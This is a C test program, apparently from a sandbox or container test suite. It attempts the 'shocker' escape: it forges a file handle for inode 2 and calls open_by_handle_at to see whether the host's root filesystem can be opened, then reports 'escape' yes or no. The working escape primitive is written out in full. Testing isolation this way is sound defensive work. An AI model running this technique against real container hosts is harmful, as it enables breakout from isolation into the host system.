/* SPDX-License-Identifier: Apache-2.0 */
/*
 * name_to_handle_at / open_by_handle_at on the rootfs ("shocker"): make a handle for "/", open it
 * back, and open a forged handle for inode 2 (the root of an ext4 filesystem: the HOST's root
 * when the rootfs is a directory on it). "escape" says whether what the forged handle opened is
 * a directory other than our own "/".
 */
#include "result.h"

#include <fcntl.h>
#include <stdint.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#define FILEID_INO32_GEN 1

int main(void)
{
    struct {
        struct file_handle fh;
        unsigned char buf[MAX_HANDLE_SZ];
    } h = {.fh.handle_bytes = MAX_HANDLE_SZ}, forged = {.fh.handle_bytes = 8};
    struct stat root, st;
    int mount_id, root_fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    uint32_t ino_gen[2] = {2, 0};
    int fd;

    if (root_fd < 0 || fstat(root_fd, &root) < 0) {
        result_add("setup", "%s", strerrorname_np(errno));
        return result_print();
    }
    errno = 0;
    if (name_to_handle_at(AT_FDCWD, "/", &h.fh, &mount_id, 0) < 0) {
        result_rc("name_to_handle_at", -1, errno);
        result_add("open_by_handle_at", "skip");
    } else {
        result_add("name_to_handle_at", "ok");
        errno = 0;
        fd = open_by_handle_at(root_fd, &h.fh, O_RDONLY | O_CLOEXEC);
        result_rc("open_by_handle_at", fd, errno);
        if (fd >= 0)
            close(fd);
    }
    forged.fh.handle_type = FILEID_INO32_GEN;
    memcpy(forged.fh.f_handle, ino_gen, sizeof(ino_gen));
    errno = 0;
    fd = open_by_handle_at(root_fd, &forged.fh, O_RDONLY | O_CLOEXEC);
    result_rc("forged", fd, errno);
    if (fd >= 0 && fstat(fd, &st) == 0)
        result_add("escape", "%s",
                   S_ISDIR(st.st_mode) && (st.st_ino != root.st_ino || st.st_dev != root.st_dev)
                       ? "yes"
                       : "no");
    return result_print();
}
